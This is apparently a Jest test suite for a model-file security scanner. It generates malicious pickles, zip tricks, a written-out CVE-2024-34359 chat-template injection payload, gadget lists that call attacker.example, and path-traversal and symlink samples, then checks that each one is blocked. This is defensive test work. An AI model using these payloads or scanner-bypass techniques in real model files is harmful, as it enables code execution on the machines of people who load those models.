/* eslint-disable jest/expect-expect -- the tests assert through expectBlocked and expectAllowed */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import fs from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import type { Violation } from '../../src/airs/schemas/data-plane.js'
import type { EngineScan } from '../../src/gate/builtin-outcome.js'
import { defaultPolicy, type EnginePolicy } from '../../src/gate/builtin-policy.js'
import { ENGINE_RULES } from '../../src/engine/rules.js'
import { scanLocalModel, type LocalScan } from '../../src/gate/builtin-scan.js'
import { CORPUS } from '../helpers/corpus.js'
import {
  globalCall,
  globalCallProto,
  legacyTorch,
  pickle,
  torchStateDictPickle,
  torchZip,
  type PickleArg
} from '../helpers/pickle-builder.js'
import { onnxGraph, onnxModel, onnxNode, onnxTensor } from '../helpers/proto-builder.js'
import { buildZip } from '../helpers/zip-builder.js'
import { EVERY_FORMAT } from '../helpers/formats.js'

/**
 * Each bypass class of the scanner landscape (§2) that applies to a static scanner, as one generated sample
 * run through the whole engine, with a policy that approves every format: only the code-execution, suspicious
 * and could-not-be-verified findings decide. Every sample must be BLOCKED with the finding that names the
 * bypass; the benign counterparts must be ALLOWED under the same policy.
 */

const LOAD = ENGINE_RULES.LOAD_TIME.name
const SUSPICIOUS = ENGINE_RULES.SUSPICIOUS.name
const FORMAT_RULE = ENGINE_RULES.FORMAT.name
const RUNTIME = ENGINE_RULES.RUNTIME.name

const base = defaultPolicy()
const POLICY: EnginePolicy = {
  ...base,
  name: 'Bypass tests: every format approved',
  approvedFormats: EVERY_FORMAT,
  states: { ...base.states, FORMAT: 'ALLOWING' }
}

let tmp = ''
let dirs = 0
beforeAll(async () => {
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'engine-bypass-'))
})
afterAll(async () => {
  if (tmp) await fs.rm(tmp, { recursive: true, force: true })
})

type FileSpec = Buffer | string | { symlink: string }

/** Writes the files into a fresh model directory and scans it. */
async function scanModel(files: Record<string, FileSpec>, policy = POLICY): Promise<LocalScan> {
  const dir = path.join(tmp, `model-${++dirs}`)
  await fs.mkdir(dir)
  for (const [rel, spec] of Object.entries(files)) {
    const abs = path.join(dir, rel)
    await fs.mkdir(path.dirname(abs), { recursive: true })
    if (typeof spec === 'object' && !Buffer.isBuffer(spec)) await fs.symlink(spec.symlink, abs)
    else await fs.writeFile(abs, spec)
  }
  return scanLocalModel({ path: dir, modelUri: 'models/sample', policy })
}

const scanOne = (name: string, data: Buffer | string) => scanModel({ [name]: data })

type Wanted = Partial<Record<keyof Violation, unknown>>

/**
 * Stopped: BLOCKED when a finding is wanted, else ERROR (only what could not be verified stands in the way).
 * What could not be verified is looked for in its own list, never among the violations.
 */
function expectBlocked(r: EngineScan, ...wanted: Wanted[]): void {
  const found = wanted.filter((w) => !UNVERIFIED.has(w))
  expect(r.scan.eval_outcome).toBe(found.length > 0 ? 'BLOCKED' : 'ERROR')
  for (const w of wanted)
    expect(UNVERIFIED.has(w) ? r.unverified : r.violations).toContainEqual(expect.objectContaining(w))
  expect(r.violations.filter((v) => v.description.startsWith('Could not be verified'))).toEqual([])
}

function expectAllowed(r: EngineScan): void {
  expect(r.violations).toEqual([])
  expect(r.scan.eval_outcome).toBe('ALLOWED')
}

const UNVERIFIED = new WeakSet<Wanted>()
const unverified = (extra: Wanted = {}): Wanted => {
  const w = { description: expect.stringMatching(/^Could not be verified/), ...extra }
  UNVERIFIED.add(w)
  return w
}

const critical = (file: string, module: string, operator: string, threat = 'PAIT-PKL-100'): Wanted => ({
  rule_name: LOAD,
  threat,
  file,
  module,
  operator
})

/** `module.name(*args)` as protocol 4 writes it. */
const call4 = (module: string, name: string, ...args: PickleArg[]) =>
  globalCallProto(4, module, name, ...args)

// ---- benign samples ----

function npyIntArray(values: number[]): Buffer {
  const header = `{'descr': '<i8', 'fortran_order': False, 'shape': (${values.length},), }`
  const pre = 10
  const total = Math.ceil((pre + header.length + 1) / 64) * 64
  const head = Buffer.alloc(pre)
  head.write('\x93NUMPY', 0, 'latin1')
  head[6] = 1
  head[7] = 0
  head.writeUInt16LE(total - pre, 8)
  const body = Buffer.concat([
    Buffer.from(header, 'latin1'),
    Buffer.alloc(total - pre - header.length - 1, 0x20)
  ])
  const data = Buffer.alloc(values.length * 8)
  values.forEach((v, i) => data.writeBigInt64LE(BigInt(v), i * 8))
  return Buffer.concat([head, body, Buffer.from('\n'), data])
}

function safetensors(): Buffer {
  const header = JSON.stringify({
    __metadata__: { format: 'pt' },
    'linear.weight': { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] },
    'linear.bias': { dtype: 'F32', shape: [2], data_offsets: [16, 24] }
  })
  const padded = header.padEnd(Math.ceil(header.length / 8) * 8, ' ')
  const len = Buffer.alloc(8)
  len.writeBigUInt64LE(BigInt(padded.length))
  return Buffer.concat([len, Buffer.from(padded), Buffer.from(new Float32Array([1, 2, 3, 4, 5, 6]).buffer)])
}

/** A GGUF v3 file with string metadata only and one F32 tensor, laid out as gguf-py writes it. */
function gguf(kvs: Array<[string, string]>): Buffer {
  const u32 = (n: number) => {
    const b = Buffer.alloc(4)
    b.writeUInt32LE(n)
    return b
  }
  const u64 = (n: number) => {
    const b = Buffer.alloc(8)
    b.writeBigUInt64LE(BigInt(n))
    return b
  }
  const str = (s: string) => {
    const b = Buffer.from(s, 'utf8')
    return Buffer.concat([u64(b.length), b])
  }
  const parts = [Buffer.from('GGUF'), u32(3), u64(1), u64(kvs.length)]
  for (const [k, v] of kvs) parts.push(str(k), u32(8), str(v))
  // tensor info: name, n_dims, dims, type F32, offset
  parts.push(str('output.weight'), u32(1), u64(8), u32(0), u64(0))
  const head = Buffer.concat(parts)
  const pad = Buffer.alloc((32 - (head.length % 32)) % 32)
  return Buffer.concat([head, pad, Buffer.alloc(32, 0x3f)])
}

const CHATML =
  "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
const CVE_2024_34359 =
  '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__[\'__import__\'](\'os\').popen("touch /tmp/retr0reg").read()}}{%endif%}{% endfor %}'

const cleanOnnx = () =>
  onnxModel({
    graph: onnxGraph({
      inputs: ['x'],
      initializers: [onnxTensor('W')],
      nodes: [
        onnxNode({ op: 'MatMul', inputs: ['x', 'W'], outputs: ['h'] }),
        onnxNode({ op: 'Relu', inputs: ['h'], outputs: ['y'] })
      ]
    }),
    producer: 'pytorch'
  })

describe('benign counterparts are ALLOWED under the same policy', () => {
  it('a torch zip checkpoint', async () => {
    expectAllowed(await scanOne('pytorch_model.bin', torchZip()))
    expectAllowed(await scanOne('model.pt', torchZip({ root: 'model' })))
  })

  it('a legacy torch file', async () => {
    expectAllowed(await scanOne('model.pt', legacyTorch()))
  })

  it('a plain state-dict pickle', async () => {
    expectAllowed(await scanOne('weights.pkl', torchStateDictPickle()))
  })

  it('a safetensors file with a correct header', async () => {
    expectAllowed(await scanOne('model.safetensors', safetensors()))
  })

  it('a clean ONNX model', async () => {
    expectAllowed(await scanOne('model.onnx', cleanOnnx()))
  })

  it('a clean GGUF file with a normal ChatML template', async () => {
    expectAllowed(
      await scanOne(
        'model.gguf',
        gguf([
          ['general.architecture', 'llama'],
          ['tokenizer.chat_template', CHATML]
        ])
      )
    )
  })

  it('a numpy int array', async () => {
    expectAllowed(await scanOne('embeddings.npy', npyIntArray([1, 2, 3, -4])))
  })

  it('a Hugging Face style directory without custom code', async () => {
    expectAllowed(
      await scanModel({
        'config.json': JSON.stringify({ architectures: ['LlamaForCausalLM'], model_type: 'llama' }),
        'model.safetensors': safetensors(),
        'tokenizer_config.json': JSON.stringify({ chat_template: CHATML }),
        'README.md': '---\nlicense: mit\n---\n# model\n'
      })
    )
  })
})

describe('bypass classes: each sample is BLOCKED with the finding that names it', () => {
  const payload = call4('posix', 'system', 'echo pwned')

  it('B1: a malicious pickle as data.pkl of a torch zip, and under non-pickle names in it', async () => {
    expectBlocked(
      await scanOne('model.pt', torchZip({ dataPkl: globalCallProto(2, 'posix', 'system', 'echo pwned') })),
      critical('model.pt', 'posix', 'system')
    )
    const extra = await scanOne(
      'model.pt',
      torchZip({
        extra: [
          { name: 'archive/extra.dat', data: call4('builtins', 'exec', 'print(1)'), align: 64 },
          { name: 'archive/data/1', data: call4('nt', 'system', 'calc'), align: 64 },
          { name: 'archive/notes', data: globalCall('subprocess', 'getoutput', 'id'), align: 64 }
        ]
      })
    )
    expectBlocked(
      extra,
      critical('model.pt', 'builtins', 'exec'),
      critical('model.pt', 'nt', 'system'),
      critical('model.pt', 'subprocess', 'getoutput')
    )
  })

  it('B2: a protocol 0 pickle, which has no magic, in a .bin', async () => {
    const r = await scanOne('pytorch_model.bin', globalCall('posix', 'system', 'echo pwned'))
    expectBlocked(r, critical('pytorch_model.bin', 'posix', 'system', 'PAIT-PYTCH-100'))
  })

  it('B3: a zip whose local header names data.pkl differently from the central directory', async () => {
    const r = await scanOne(
      'model.pt',
      torchZip({ dataPkl: payload, override: { 'data.pkl': { localName: 'archive/datap.kl' } } })
    )
    expectBlocked(r, critical('model.pt', 'posix', 'system'), {
      rule_name: SUSPICIOUS,
      threat: null,
      description: expect.stringMatching(/^Archive anomaly: name mismatch in "archive\/data\.pkl"/)
    })
  })

  it.each(['0x1', '0x20', '0x40'])('B4: general-purpose flag bit %s on data.pkl', async (bit) => {
    const flag = Number(bit)
    const r = await scanOne(
      'model.pt',
      torchZip({ dataPkl: payload, override: { 'data.pkl': { flags: 0x800 | flag } } })
    )
    expectBlocked(r, critical('model.pt', 'posix', 'system'), {
      rule_name: SUSPICIOUS,
      threat: null,
      description: expect.stringContaining(`flag bits in "archive/data.pkl"`)
    })
  })

  it('B5: a tampered data.pkl whose CRC was not updated is still read (PyTorch does not check it)', async () => {
    const r = await scanOne(
      'model.pt',
      torchZip({ dataPkl: payload, override: { 'data.pkl': { crc: 0x12345678 } } })
    )
    expectBlocked(r, critical('model.pt', 'posix', 'system'))
    // a descriptor that disagrees with the central directory is reported as well
    const headers = await scanOne(
      'model.pt',
      torchZip({ dataPkl: payload, override: { 'data.pkl': { descriptor: { crc: 0x12345678 } } } })
    )
    expectBlocked(headers, critical('model.pt', 'posix', 'system'), {
      rule_name: SUSPICIOUS,
      threat: null,
      description: expect.stringMatching(/^Archive anomaly: crc mismatch in "archive\/data\.pkl"/)
    })
  })

  it('B6: a 7z container named as a checkpoint is not verified', async () => {
    const sevenZip = Buffer.concat([
      Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]),
      Buffer.from('junk that no 7z reader would accept, with a pickle inside: '),
      payload
    ])
    for (const name of ['pytorch_model.bin', 'model.7z']) {
      const r = await scanOne(name, sevenZip)
      expectBlocked(
        r,
        unverified({
          rule_name: SUSPICIOUS,
          threat: null,
          file: name,
          description: expect.stringMatching(/^Could not be verified: a 7_zip archive/)
        })
      )
    }
  })

  it('B7: a payload followed by a broken stream keeps the payload and is not verified', async () => {
    const head = globalCall('posix', 'system', 'echo pwned')
    const r = await scanOne('model.pkl', Buffer.concat([head, Buffer.from('\xff\xfe garbage', 'latin1')]))
    expectBlocked(
      r,
      critical('model.pkl', 'posix', 'system'),
      unverified({
        rule_name: LOAD,
        threat: 'PAIT-PKL-101',
        description: `Could not be verified: byte 0xff is not a pickle opcode: the data is not a pickle from here on (byte ${head.length})`
      })
    )
  })

  // gadgets from the deny-list hunting advisories (landscape §2, B8), each as it would be called
  const GADGETS: Array<[module: string, name: string, args: PickleArg[], protocol?: 2]> = [
    ['pkgutil', 'resolve_name', ['os:system']],
    ['uuid', '_get_command_stdout', ['sh', '-c', 'id']],
    ['imaplib', 'IMAP4_stream', ['id']],
    ['cProfile', 'run', ['import os; os.system("id")']],
    ['profile', 'run', ['import os; os.system("id")']],
    ['_osx_support', '_read_output', ['id']],
    ['_aix_support', 'subprocess.getoutput', ['id']],
    ['torch.utils.collect_env', 'run', ['id']],
    ['multiprocessing.util', 'spawnv_passfds', ['/bin/sh', 'argv', 'fds']],
    ['pandas', 'read_csv', ['https://attacker.example/exfil']],
    ['doctest', 'debug_script', ['import os; os.system("id")']],
    ['idlelib.calltip', 'get_entity', ['__import__("os").system("id")']],
    ['lib2to3.pgen2.pgen', 'generate_grammar', ['/etc/passwd']],
    ['timeit', 'timeit', ['import os; os.system("id")']],
    ['pdb', 'run', ['import os; os.system("id")']],
    ['_pyrepl.pager', 'pipe_pager', ['x', 'id']],
    ['code', 'InteractiveInterpreter.runsource', ['import os']],
    ['pty', 'spawn', ['/bin/sh']],
    ['marshal', 'loads', [Buffer.from([0xe3, 0, 0, 0])]],
    ['types', 'CodeType', []],
    ['logging', 'FileHandler', ['/home/user/.bashrc']],
    ['_io', 'FileIO', ['/home/user/.bashrc', 'w']],
    ['urllib.request', 'urlopen', ['https://attacker.example/']],
    ['cloudpickle', 'loads', [Buffer.from('payload')]],
    ['_interpreters', 'run_string', [0, 'import os']],
    ['mlflow.projects.backend.local', '_run_entry_point', ['id', '/', 'env']],
    ['pip', 'main', ['install']],
    ['functools', 'partial', []],
    ['pydoc', 'pipepager', ['', 'id']],
    ['venv', 'create', ['/tmp/x']],
    ['torch.serialization', 'load', ['other.bin']],
    ['torch._inductor.codecache', 'compile_file', ['', '', 'sh -c id']],
    ['operator', 'methodcaller', ['system', 'id']],
    ['ctypes', 'CDLL', ['libc.so.6']],
    ['runpy', 'run_path', ['/tmp/x.py']],
    ['numpy.testing._private.utils', 'runstring', ['import os', 'dict']],
    // Python 2 module names are mapped (commands is subprocess) only below protocol 3
    ['commands', 'getoutput', ['id'], 2]
  ]

  it('B8: gadgets missing from other deny-lists are each a critical finding', async () => {
    const files: Record<string, Buffer> = {}
    GADGETS.forEach(([m, n, args, protocol], i) => {
      files[`g${String(i).padStart(2, '0')}.pkl`] = globalCallProto(protocol ?? 4, m, n, ...args)
    })
    const r = await scanModel(files)
    expect(r.scan.eval_outcome).toBe('BLOCKED')
    GADGETS.forEach(([m, n], i) => {
      expect(r.violations).toContainEqual(
        expect.objectContaining(critical(`g${String(i).padStart(2, '0')}.pkl`, m, n))
      )
    })
  })

  it('B9: importlib.import_module + inspect.getattr_static reaching os.system are both critical', async () => {
    const p = pickle()
      .proto(4)
      .stackGlobalOf('inspect', 'getattr_static')
      .stackGlobalOf('importlib', 'import_module')
      .shortBinUnicode('os')
      .tuple1()
      .reduce()
      .shortBinUnicode('system')
      .tuple2()
      .reduce()
      .shortBinUnicode('id')
      .tuple1()
      .reduce()
      .stop()
      .toBuffer()
    const r = await scanOne('model.pkl', p)
    expectBlocked(
      r,
      critical('model.pkl', 'importlib', 'import_module'),
      critical('model.pkl', 'inspect', 'getattr_static')
    )
  })

  it('B10: a sub-module of a banned module', async () => {
    const r = await scanOne(
      'model.pkl',
      call4('asyncio.unix_events', '_UnixSubprocessTransport._start', 'id')
    )
    expectBlocked(r, critical('model.pkl', 'asyncio.unix_events', '_UnixSubprocessTransport._start'))
  })

  it('B11: STACK_GLOBAL operands through the memo (stack values, not previous arguments)', async () => {
    const p = pickle()
      .proto(4)
      .shortBinUnicode('os')
      .shortBinUnicode('torch')
      .pop()
      .binPut(0)
      .shortBinUnicode('system')
      .shortBinUnicode('FloatStorage')
      .pop()
      .longBinPut(1)
      .binGet(0)
      .longBinGet(1)
      .stackGlobal()
      .shortBinUnicode('id')
      .tuple1()
      .reduce()
      .stop()
      .toBuffer()
    expectBlocked(await scanOne('model.pkl', p), critical('model.pkl', 'os', 'system'))
  })

  it('B11: BUILD rewriting numpy.prod.a / .b to "os" / "system", then STACK_GLOBAL of them', async () => {
    const p = pickle()
      .proto(4)
      .stackGlobalOf('numpy', 'prod')
      .emptyDict()
      .shortBinUnicode('a')
      .shortBinUnicode('os')
      .setItem()
      .shortBinUnicode('b')
      .shortBinUnicode('system')
      .setItem()
      .build()
      .pop()
      .shortBinUnicode('numpy')
      .shortBinUnicode('prod.a')
      .stackGlobal()
      .shortBinUnicode('numpy')
      .shortBinUnicode('prod.b')
      .stackGlobal()
      .stackGlobal()
      .shortBinUnicode('id')
      .tuple1()
      .reduce()
      .stop()
      .toBuffer()
    const r = await scanOne('model.pkl', p)
    expectBlocked(
      r,
      {
        rule_name: LOAD,
        threat: 'PAIT-PKL-100',
        description: expect.stringContaining('BUILD sets state on the imported numpy.prod itself')
      },
      {
        rule_name: LOAD,
        threat: 'PAIT-PKL-100',
        description: expect.stringContaining(
          'STACK_GLOBAL with the imported numpy.prod.a and the imported numpy.prod.b instead of literal names'
        )
      }
    )
  })

  it('B12: numpy.__builtins__ as a springboard to exec', async () => {
    const p = pickle()
      .proto(4)
      .stackGlobalOf('numpy', '__builtins__.get')
      .shortBinUnicode('exec')
      .tuple1()
      .reduce()
      .shortBinUnicode("__import__('os').system('id')")
      .tuple1()
      .reduce()
      .stop()
      .toBuffer()
    expectBlocked(await scanOne('model.pkl', p), critical('model.pkl', 'numpy', '__builtins__.get'))
  })

  it('B12: builtins.getattr on a module imported by a name str.join assembles at load time', async () => {
    const p = pickle()
      .proto(4)
      .stackGlobalOf('builtins', 'getattr')
      .stackGlobalOf('importlib', 'import_module')
      .joined(['o', 's'])
      .tuple1()
      .reduce()
      .shortBinUnicode('system')
      .tuple2()
      .reduce()
      .shortBinUnicode('id')
      .tuple1()
      .reduce()
      .stop()
      .toBuffer()
    const r = await scanOne('model.pkl', p)
    expectBlocked(
      r,
      critical('model.pkl', 'builtins', 'getattr'),
      critical('model.pkl', 'importlib', 'import_module')
    )
    // and the same name used directly as a STACK_GLOBAL operand is a dynamic import
    const dynamic = pickle()
      .proto(4)
      .joined(['o', 's'])
      .shortBinUnicode('system')
      .stackGlobal()
      .shortBinUnicode('id')
      .tuple1()
      .reduce()
      .stop()
      .toBuffer()
    expectBlocked(await scanOne('model.pkl', dynamic), {
      rule_name: LOAD,
      threat: 'PAIT-PKL-100',
      description: expect.stringMatching(/^STACK_GLOBAL with the result of a call and a string/)
    })
  })

  it('B13: a call hidden by OBJ + POP', async () => {
    const p = pickle()
      .proto(2)
      .mark()
      .global('smtplib', 'SMTP')
      .binUnicode('attacker.example')
      .binInt(25)
      .obj()
      .pop()
      .emptyDict()
      .stop()
      .toBuffer()
    expectBlocked(await scanOne('model.pkl', p), critical('model.pkl', 'smtplib', 'SMTP'))
  })

  it('B14: an opcode straddling its FRAME (the C unpickler runs what follows, pickle.py refuses)', async () => {
    const p = pickle()
      .proto(4)
      .frame(3)
      .shortBinUnicode('posix')
      .shortBinUnicode('system')
      .stackGlobal()
      .shortBinUnicode('id')
      .tuple1()
      .reduce()
      .stop()
      .toBuffer()
    expectBlocked(
      await scanOne('model.pkl', p),
      unverified({
        rule_name: LOAD,
        threat: 'PAIT-PKL-101',
        file: 'model.pkl',
        description: 'Could not be verified: an opcode reaches past the end of its frame (byte 13)'
      })
    )
  })

  it('B15: the legacy torch magic number produced by eval instead of a literal', async () => {
    const magic = pickle()
      .proto(2)
      .global('builtins', 'eval')
      .binPut(0)
      .binUnicode('0x1950A86A20F9469CFC6C')
      .tuple1()
      .reduce()
      .binPut(1)
      .stop()
      .toBuffer()
    const r = await scanOne('model.pt', legacyTorch({ magic }))
    expectBlocked(r, critical('model.pt', 'builtins', 'eval', 'PAIT-PYTCH-100'))
  })

  it('B16: nested pickles: raw to pickle.loads, base64 to b64decode + loads, hex to unhexlify + loads', async () => {
    const inner = call4('posix', 'system', 'id')
    const viaLoads = (arg: (b: ReturnType<typeof pickle>) => ReturnType<typeof pickle>) =>
      arg(pickle().proto(4).stackGlobalOf('pickle', 'loads')).tuple1().reduce().stop().toBuffer()
    const samples = {
      'raw.pkl': viaLoads((b) => b.binBytes(inner)),
      'b64.pkl': viaLoads((b) =>
        b.stackGlobalOf('base64', 'b64decode').binUnicode(inner.toString('base64')).tuple1().reduce()
      ),
      'hex.pkl': viaLoads((b) =>
        b.stackGlobalOf('binascii', 'unhexlify').binUnicode(inner.toString('hex')).tuple1().reduce()
      )
    }
    const r = await scanModel(samples)
    expect(r.scan.eval_outcome).toBe('BLOCKED')
    for (const file of Object.keys(samples)) {
      expect(r.violations).toContainEqual(expect.objectContaining(critical(file, 'pickle', 'loads')))
      expect(r.violations).toContainEqual(
        expect.objectContaining({
          ...critical(file, 'posix', 'system'),
          description: expect.stringContaining('(in a pickle nested inside the file)')
        })
      )
    }
  })

  it('B17: files that cannot be parsed are not verified, never clean', async () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')
    const truncated = pickle()
      .proto(4)
      .framed((b) => b.emptyDict().memoize().mark().shortBinUnicode('a').binInt1(1).setItems().stop())
      .toBuffer()
      .subarray(0, 16)
    const r = await scanModel({ 'bad.pt': png, 'empty.pkl': Buffer.alloc(0), 'truncated.pkl': truncated })
    // nothing in them was found harmful: not verified, its own outcome
    expect(r.scan.eval_outcome).toBe('ERROR')
    const want: Array<[string, string, string | null]> = [
      ['bad.pt', LOAD, 'PAIT-PYTCH-101'],
      ['empty.pkl', SUSPICIOUS, null],
      ['truncated.pkl', LOAD, 'PAIT-PKL-101']
    ]
    for (const [file, rule_name, threat] of want) {
      expect(r.unverified).toContainEqual(expect.objectContaining(unverified({ file, rule_name, threat })))
      expect(r.files.find((f) => f.path === file)?.result).toBe('ERROR')
    }
    expect(r.unverified).toContainEqual(
      expect.objectContaining({ file: 'empty.pkl', description: 'Could not be verified: the file is empty' })
    )
    expect(r.unverified).toContainEqual(
      expect.objectContaining({
        file: 'truncated.pkl',
        description: 'Could not be verified: a frame reaches past the end of the data (byte 11)'
      })
    )
  })

  it('B21: a Keras .keras archive with a Lambda layer', async () => {
    const code = Buffer.concat([Buffer.from([0xe3]), Buffer.alloc(63, 0x41)]).toString('base64')
    const config = {
      module: 'keras',
      class_name: 'Sequential',
      config: {
        name: 'seq',
        layers: [
          {
            module: 'keras.layers',
            class_name: 'Lambda',
            config: {
              name: 'evil',
              function: { class_name: '__lambda__', config: { code, defaults: null, closure: null } }
            }
          }
        ]
      }
    }
    const keras = buildZip({
      members: [
        { name: 'metadata.json', data: JSON.stringify({ keras_version: '3.3.3', date_saved: '2025-01-01' }) },
        { name: 'config.json', data: JSON.stringify(config) }
      ]
    })
    expectBlocked(await scanOne('model.keras', keras), {
      rule_name: RUNTIME,
      threat: 'PAIT-KERAS-300',
      file: 'model.keras'
    })
  })

  it('B21: a GGUF chat template with the CVE-2024-34359 payload', async () => {
    const r = await scanOne(
      'model.gguf',
      gguf([
        ['general.architecture', 'llama'],
        ['tokenizer.chat_template', CVE_2024_34359]
      ])
    )
    expectBlocked(r, {
      rule_name: RUNTIME,
      threat: 'PAIT-GGUF-101',
      file: 'model.gguf',
      description: expect.stringMatching(/^The chat template tokenizer\.chat_template can run code/)
    })
  })

  it('B21: an ONNX model whose external data path leaves the model directory', async () => {
    const model = onnxModel({
      graph: onnxGraph({
        inputs: ['x'],
        initializers: [onnxTensor('W', { location: '../../etc/passwd' })],
        nodes: [onnxNode({ op: 'MatMul', inputs: ['x', 'W'], outputs: ['y'] })]
      })
    })
    expectBlocked(await scanOne('model.onnx', model), {
      rule_name: SUSPICIOUS,
      threat: null,
      file: 'model.onnx',
      description: expect.stringMatching(
        /^External data path "\.\.\/\.\.\/etc\/passwd" of tensor W .*escapes/
      )
    })
  })

  it('B21: a Hugging Face directory whose config.json loads custom code through auto_map', async () => {
    const r = await scanModel({
      'config.json': JSON.stringify({
        architectures: ['XForCausalLM'],
        model_type: 'x',
        auto_map: { AutoModelForCausalLM: 'modeling_x.XForCausalLM' }
      }),
      'modeling_x.py': 'import os\nos.system("id")\n',
      'model.safetensors': safetensors()
    })
    expectBlocked(
      r,
      {
        rule_name: SUSPICIOUS,
        threat: null,
        file: 'config.json',
        description: expect.stringMatching(
          /^auto_map loads custom code from the repository.*modeling_x\.XForCausalLM/
        )
      },
      {
        rule_name: SUSPICIOUS,
        threat: null,
        file: 'modeling_x.py',
        description: expect.stringContaining("'modeling_x.py' is Python code shipped with the model")
      }
    )
  })

  it('B21: a symbolic link leaving the model directory', async () => {
    const r = await scanModel({
      'model.safetensors': safetensors(),
      'tokenizer.bin': { symlink: '/etc/passwd' }
    })
    expectBlocked(r, {
      rule_name: SUSPICIOUS,
      threat: 'PAIT-ARV-100',
      file: 'tokenizer.bin',
      description: expect.stringMatching(
        /^A symbolic link leads outside the model directory \(to \/etc\/passwd\)/
      )
    })
  })

  it('B21: an ELF executable bundled with the model', async () => {
    const elf = Buffer.concat([
      Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
      Buffer.alloc(56)
    ])
    const r = await scanModel({ 'model.safetensors': safetensors(), 'bin/runner': elf })
    expectBlocked(r, {
      rule_name: SUSPICIOUS,
      threat: null,
      file: 'bin/runner',
      description: "'runner' is an executable program bundled with the model"
    })
  })

  it('a flood of harmless imports does not hide the payload after it', async () => {
    const harmless = Buffer.from('ccollections\nOrderedDict\n0', 'latin1')
    const flood = Buffer.concat([
      Buffer.from([0x80, 0x02]),
      Buffer.alloc(harmless.length * 100_000, harmless),
      globalCall('posix', 'system', 'echo pwned')
    ])
    const r = await scanOne('model.pkl', flood)
    expectBlocked(
      r,
      unverified({
        rule_name: LOAD,
        threat: 'PAIT-PKL-101',
        description: expect.stringContaining('more than 100000 imports; the rest were not checked')
      })
    )
  })

  // FindingSet lists at most 10,000 findings per file: 10,001 findings of a rule the policy only reports (here
  // FORMAT: ALLOWING, each member named .npy holding a pickle) must not push the payload's finding out
  it('a flood of non-blocking findings does not hide the payload after it', async () => {
    const harmless = pickle().proto(4).emptyDict().stop().toBuffer()
    const members = Array.from({ length: 10_001 }, (_, i) => ({ name: `arrays/${i}.npy`, data: harmless }))
    const zip = buildZip({ members: [...members, { name: 'arrays/z.pkl', data: payload }] })
    expectBlocked(await scanOne('arrays.zip', zip), critical('arrays.zip', 'posix', 'system'))
  })
})

// ---- the picklescan corpus ----

/** The dangerous imports of each malicious corpus file, read with `python3 -m pickletools`. */
const MALICIOUS: Record<string, { threat: string; imports?: string[]; descriptions?: string[] }> = {
  'malicious-invalid-bytes.pkl': { threat: 'PAIT-PKL-100', imports: ['os:system'] },
  'malicious0.pkl': {
    threat: 'PAIT-PKL-100',
    imports: [
      '__builtin__:globals',
      '__builtin__:compile',
      '__builtin__:eval',
      '__builtin__:getattr',
      '__builtin__:apply'
    ]
  },
  'malicious1.zip': { threat: 'PAIT-PKL-100', imports: ['builtins:eval'] },
  'malicious1_0x1.zip': { threat: 'PAIT-PKL-100', imports: ['builtins:eval'] },
  'malicious1_0x20.zip': { threat: 'PAIT-PKL-100', imports: ['builtins:eval'] },
  'malicious1_0x40.zip': { threat: 'PAIT-PKL-100', imports: ['builtins:eval'] },
  'malicious1_central_directory.zip': { threat: 'PAIT-PKL-100', imports: ['builtins:eval'] },
  'malicious1_wrong_ext.zip': { threat: 'PAIT-PKL-100', imports: ['builtins:eval'] },
  'malicious1_v0.pkl': { threat: 'PAIT-PKL-100', imports: ['__builtin__:eval'] },
  'malicious1_v3.pkl': { threat: 'PAIT-PKL-100', imports: ['builtins:eval'] },
  'malicious1_v4.pkl': { threat: 'PAIT-PKL-100', imports: ['builtins:eval'] },
  'malicious2_v0.pkl': { threat: 'PAIT-PKL-100', imports: ['posix:system'] },
  'malicious2_v3.pkl': { threat: 'PAIT-PKL-100', imports: ['posix:system'] },
  'malicious2_v4.pkl': { threat: 'PAIT-PKL-100', imports: ['posix:system'] },
  'malicious3.pkl': { threat: 'PAIT-PKL-100', imports: ['httplib:HTTPSConnection'] },
  'malicious4.pickle': { threat: 'PAIT-PKL-100', imports: ['requests.api:get'] },
  'malicious5.pickle': { threat: 'PAIT-PKL-100', imports: ['aiohttp.client:ClientSession'] },
  // the payload is in the second of two concatenated pickles
  'malicious6.pkl': { threat: 'PAIT-PKL-100', imports: ['requests.api:get'] },
  'malicious7.pkl': { threat: 'PAIT-PKL-100', imports: ['socket:create_connection'] },
  'malicious8.pkl': { threat: 'PAIT-PKL-100', imports: ['subprocess:run'] },
  'malicious9.pkl': { threat: 'PAIT-PKL-100', imports: ['sys:exit'] },
  'malicious10.pkl': { threat: 'PAIT-PKL-100', imports: ['__builtin__:exec'] },
  'malicious11.pkl': { threat: 'PAIT-PKL-100', imports: ['os:system'] },
  'malicious12.pkl': { threat: 'PAIT-PKL-100', imports: ['operator:attrgetter', 'builtins:__import__'] },
  'malicious13a.pkl': { threat: 'PAIT-PKL-100', imports: ['pickle:loads'] },
  'malicious13b.pkl': { threat: 'PAIT-PKL-100', imports: ['_pickle:loads'] },
  'malicious14.pkl': { threat: 'PAIT-PKL-100', imports: ['runpy:_run_code'] },
  'malicious15a.pkl': { threat: 'PAIT-PKL-100', imports: ['__builtin__:getattr', 'bdb:Bdb'] },
  'malicious15b.pkl': { threat: 'PAIT-PKL-100', imports: ['bdb:Bdb.run', 'bdb:Bdb'] },
  'malicious16.pkl': { threat: 'PAIT-PKL-100', imports: ['pip:main'] },
  'malicious17.pkl': { threat: 'PAIT-PKL-100', imports: ['torch._inductor.codecache:compile_file'] },
  'malicious18.pkl': { threat: 'PAIT-PKL-100', imports: ['pydoc:pipepager'] },
  'malicious19.pkl': { threat: 'PAIT-PKL-100', imports: ['functools:partial', 'torch.serialization:load'] },
  'malicious20.pkl': { threat: 'PAIT-PKL-100', imports: ['venv:create'] },
  // eval('0x1950A86A20F9469CFC6C') stands in for the legacy magic number; a second pickle runs posix.system
